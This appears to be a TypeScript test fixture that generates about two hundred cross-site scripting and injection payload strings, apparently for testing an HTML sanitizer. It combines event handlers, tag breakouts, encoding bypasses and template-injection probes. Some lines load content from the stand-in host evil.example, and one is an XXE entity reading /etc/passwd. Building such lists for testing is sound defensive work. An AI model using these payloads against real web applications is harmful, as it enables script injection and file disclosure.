/** What somebody types who wants a script to run: two hundred ways of our own, made from their parts. */

const events = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart'];
const elements = [
  (event: string) => `<img src=x ${event}=alert(1)>`,
  (event: string) => `<svg ${event}=alert(1)>`,
  (event: string) => `<svg><animate ${event}="alert(1)" attributeName=x dur=1s>`,
  (event: string) => `<details open ${event}=alert(1)>`,
  (event: string) => `<input autofocus ${event}=alert(1)>`,
  (event: string) => `<video ${event}=alert(1)><source ${event}=alert(1)>`,
  (event: string) => `<body ${event}=alert(1)>`,
  (event: string) => `<a href=# ${event}=alert(1)>x</a>`,
  (event: string) => `<math><mtext ${event}=alert(1)>`,
];
const breakouts = ['"', "'", '">', "'>", '</p>', '</blockquote>', '</textarea>', '</title>', '</script>', '</text>'];
const payloads = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  ' onmouseover=alert(1) x=',
  '<iframe srcdoc="<script>alert(1)</script>">',
];
const alone = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://example.org',
  'data:text/html,<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<form action=//evil.example><button>x',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="//evil.example"?>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><text>&x;</text>',
  '<image href="file:///etc/passwd" width="10" height="10"/>',
  '<image xlink:href="http://evil.example/x.png"/>',
  '<use href="//evil.example#x"/>',
  '<foreignObject><script>alert(1)</script></foreignObject>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7} <%= 7*7 %> ${{7*7}}',
  '`;alert(1)//',
  '";alert(1);//',
  "');alert(1);//",
  '\\"};alert(1);//',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  ']]></script><img src=x onerror=alert(1)>',
  '\u202ealert(1)\u202c \u2066<b>\u2069',
  '"><!-- --!><img src=x onerror=alert(1)>',
];

/** Each of them once. */
export const scriptPayloads: readonly string[] = [
  ...new Set([
    ...alone,
    ...events.flatMap((event) => elements.map((element) => element(event))),
    ...breakouts.flatMap((end) => payloads.map((payload) => end + payload)),
    ...payloads.map((payload) => payload.replaceAll(' ', '/')),
    ...payloads.map((payload) => payload.toUpperCase()),
    ...payloads.map((payload) => payload.replaceAll('<', '<\t')),
    ...payloads.map((payload) => Array.from(payload).join('\u200b')),
  ]),
];
